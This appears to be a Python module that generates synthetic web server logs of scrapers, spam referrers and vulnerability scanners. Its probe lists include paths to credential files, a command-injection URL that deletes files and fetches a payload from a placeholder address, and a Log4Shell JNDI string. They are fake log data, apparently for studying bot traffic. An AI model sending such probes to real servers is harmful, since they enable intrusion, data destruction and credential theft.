"""Machines that pretend to be browsers, or to be nothing at all: scrapers and scanners."""

from __future__ import annotations

from random import Random
from typing import Final

from .addresses import address_in, home_address
from .browsers import plain_agent
from .clock import moment_of_machines
from .hits import Client, Kind, Record
from .site import (
    FEEDS,
    LINKS_OF_NEWSLETTER,
    NEWSLETTER,
    NEWSLETTER_MARK,
    ORIGIN,
    any_page,
    assets_of,
    pages_at,
    size_of,
)

_CLOUDS: Final = ("amazon", "hetzner", "ovh", "digitalocean", "alibaba", "google cloud", "azure")
_HEADLESS: Final = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "HeadlessChrome/{0}.0.0.0 Safari/537.36"
)
# One that scrapers are known to share.
_OLD_IPHONE: Final = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 13_2_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/13.0.3 Mobile/15E148 Safari/604.1"
)
_SPAMMERS: Final = (
    "https://seo-rank-boost.example.com/",
    "http://free-traffic.example.net/?ref=ward",
    "https://casino-bonus.example.com/uk",
)
_PROBES: Final = (
    "/wp-login.php",
    "/xmlrpc.php",
    "/.env",
    "/.git/config",
    "/wp-includes/wlwmanifest.xml",
    "/wp-content/plugins/hellopress/wp_filemanager.php",
    "/admin/",
    "/phpmyadmin/index.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale",
    "/.aws/credentials",
    "/backup.zip",
    "/api/v1/users",
    "/owa/auth/logon.aspx",
    "/actuator/health",
    "/server-status",
    "/config.json",
    "/.well-known/security.txt",
    "/ads.txt",
    "/about.php",
    "/index.php?s=/index/\\think\\app/invokefunction",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/x",
)
_SCANNERS: Final = (
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; InternetMeasurement/1.0; +https://internet-measurement.com/)",
    "Expanse, a Palo Alto Networks company, searches across the global IPv4 space",
    "Mozilla/5.0 (l9scan/2.0.031323e2735393; +https://leakix.net)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M; wv)",  # codespell:ignore bulid
    "",
)
_NOT_HTTP: Final = (
    r"\x16\x03\x01\x00\xEE\x01\x00\x00\xEA\x03\x03",
    r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=hello",
    "",
)
_NONSENSE: Final = (
    "",
    "",
    "-",
    "Mozilla/5.0",
    "Mozilla",
    "test",
    "User-Agent: Mozilla/5.0 (Windows NT 10.0)",
    "Mozilla/5.0 (compatible)",
    "'",
    "${jndi:ldap://192.0.2.7/a}",
    "fasthttp",
    "Hello, World",
)


def _old_chrome(chance: Random) -> str:
    """Return the agent of a Chrome as scrapers make them up: often of an old version."""
    version = chance.choice((156, 155, chance.randint(90, 154), chance.randint(60, 130)))
    system = chance.choice(
        ("Windows NT 10.0; Win64; x64", "X11; Linux x86_64", "Macintosh; Intel Mac OS X 10_15_7")
    )
    return (
        f"Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) "
        f"Chrome/{version}.0.0.0 Safari/537.36"
    )


def _agent(chance: Random) -> str:
    if chance.random() < 0.1:
        return _OLD_IPHONE
    return plain_agent(chance) if chance.random() < 0.4 else _old_chrome(chance)


def _page(
    record: Record, client: Client, path: str, time: float, kind: Kind, referrer: str = ""
) -> None:
    record.add(time, client, path, kind, size=size_of(path.partition("?")[0]), referrer=referrer)


def _with_assets(
    record: Record,
    chance: Random,
    client: Client,
    path: str,
    time: float,
    kind: Kind,
    *,
    has_images: bool = True,
) -> None:
    _page(record, client, path, time, kind)
    for asset in assets_of(path.partition("?")[0], time):
        if not has_images and not asset.endswith((".css", ".js")):
            continue
        later = time + chance.uniform(0.05, 1.2)
        _page(record, client, asset, later, kind, f"{ORIGIN}{path}")


def scrape_in_bursts(record: Record, chance: Random, lines: int) -> None:
    """Record scrapers that fetch much of the site from one address in a short time."""
    enough = len(record.hits) + lines
    while len(record.hits) < enough:
        client = Client(address_in(chance, chance.choice(_CLOUDS)), _agent(chance))
        time = moment_of_machines(chance)
        paths = pages_at(time)[0]
        pace = chance.choice((0.05, 0.3, 1, 4, 15))
        shows_referrer = chance.random() < 0.15
        before = ""
        for path in chance.sample(paths, chance.randint(6, len(paths))):
            _page(record, client, path, time, Kind.BURST, before if shows_referrer else "")
            before = f"{ORIGIN}{path}"
            time += pace * chance.uniform(0.5, 2)
        if chance.random() < 0.2:
            _page(record, client, chance.choice(list(FEEDS)), time, Kind.BURST)


def scrape_one_page_each(record: Record, chance: Random, lines: int) -> None:
    """Record scrapers that send each request from another address, often of somebody's home."""
    enough = len(record.hits) + lines
    while len(record.hits) < enough:
        time = moment_of_machines(chance)
        agent = _agent(chance)
        for _ in range(chance.randint(1, 60)):  # one round of a scraper
            is_home = chance.random() < 0.25
            address = (
                home_address(chance)
                if is_home
                else address_in(chance, chance.choice(("abroad", *_CLOUDS)))
            )
            if chance.random() < 0.5:
                agent = _agent(chance)
            protocol = chance.choice(("HTTP/1.1", "HTTP/2.0"))
            referrer = chance.choices(("", "https://www.google.com/"), (92, 8))[0]
            path = any_page(chance, time)
            client = Client(address, agent, protocol)
            _page(record, client, path, time, Kind.ONE_PAGE, referrer)
            time += chance.expovariate(1 / 90)


def browse_headless(record: Record, chance: Random, lines: int) -> None:
    """Record headless browsers, which load assets as people do, and say what they are."""
    enough = len(record.hits) + lines
    while len(record.hits) < enough:
        agent = _HEADLESS.format(chance.randint(120, 156))
        client = Client(address_in(chance, chance.choice(_CLOUDS)), agent, "HTTP/2.0")
        time = moment_of_machines(chance)
        for _ in range(chance.randint(1, 5)):
            _with_assets(record, chance, client, any_page(chance, time), time, Kind.HEADLESS)
            time += chance.uniform(1, 10)


def browse_like_people(record: Record, chance: Random, lines: int) -> None:
    """Record scrapers with a real browser that do not say so. Only their habits differ."""
    enough = len(record.hits) + lines
    while len(record.hits) < enough:
        network = chance.choice(("abroad", *_CLOUDS))
        client = Client(address_in(chance, network), plain_agent(chance), "HTTP/2.0")
        time = moment_of_machines(chance)
        has_images = chance.random() < 0.6  # the others save data
        for _ in range(chance.choice((1, 1, 1, 3, 8))):
            path = any_page(chance, time)
            _with_assets(record, chance, client, path, time, Kind.RENDERER, has_images=has_images)
            time += chance.uniform(2, 30)


def check_links_of_newsletter(record: Record, chance: Random, lines: int) -> None:
    """Record mail services that open each link of the newsletter as it arrives."""
    enough = len(record.hits) + lines
    while len(record.hits) < enough:
        network = chance.choice(("microsoft mail", "microsoft mail", "mail gateway"))
        client = Client(address_in(chance, network), plain_agent(chance), "HTTP/1.1")
        time = NEWSLETTER + 2 + chance.expovariate(1 / 240)
        renders = chance.random() < 0.15
        count = chance.choice((1, 1, 5))
        for path in chance.sample(LINKS_OF_NEWSLETTER, count):
            address = f"{path}?{NEWSLETTER_MARK}"
            if renders:
                _with_assets(record, chance, client, address, time, Kind.EMAIL_CHECK)
            else:
                _page(record, client, address, time, Kind.EMAIL_CHECK)
            time += chance.uniform(0.2, 3)


def spam(record: Record, chance: Random, lines: int) -> None:
    """Record requests whose only purpose is their referrer."""
    enough = len(record.hits) + lines
    while len(record.hits) < enough:
        client = Client(address_in(chance, "abroad"), _agent(chance))
        time = moment_of_machines(chance)
        referrer = chance.choice(_SPAMMERS)
        for number in range(chance.randint(1, 4)):
            _page(record, client, "/", time + number, Kind.SPAM, referrer)


def talk_nonsense(record: Record, chance: Random, lines: int) -> None:
    """Record requests with an empty agent, or one that means nothing."""
    enough = len(record.hits) + lines
    while len(record.hits) < enough:
        network = chance.choice(("scan", "abroad", *_CLOUDS))
        client = Client(address_in(chance, network), chance.choice(_NONSENSE))
        time = moment_of_machines(chance)
        path = "/" if chance.random() < 0.7 else any_page(chance, time)
        _page(record, client, path, time, Kind.NONSENSE)


def scan(record: Record, chance: Random, lines: int) -> None:
    """Record exactly this number of requests of scanners that look for weak programs."""
    enough = len(record.hits) + lines
    while len(record.hits) < enough:
        agent = chance.choice(_SCANNERS) if chance.random() < 0.4 else _agent(chance)
        client = Client(address_in(chance, chance.choice(("scan", *_CLOUDS))), agent)
        time = moment_of_machines(chance)
        count = min(enough - len(record.hits), int(chance.paretovariate(0.7)), 150)
        for _ in range(count):
            _probe(record, chance, client, time)
            time += chance.uniform(0.1, 3)


def _probe(record: Record, chance: Random, client: Client, time: float) -> None:
    choice = chance.random()
    if choice < 0.07:
        _page(record, client, "/", time, Kind.SCANNER)
    elif choice < 0.1:
        target = chance.choice(_NOT_HTTP)
        unknown = client._replace(agent="", protocol="")
        record.add(time, unknown, target, Kind.SCANNER, status=400, size=150, method="")
    else:
        method = "POST" if chance.random() < 0.2 else "GET"
        status = 405 if method == "POST" else 404
        path = chance.choice(_PROBES)
        record.add(time, client, path, Kind.SCANNER, status=status, size=162, method=method)
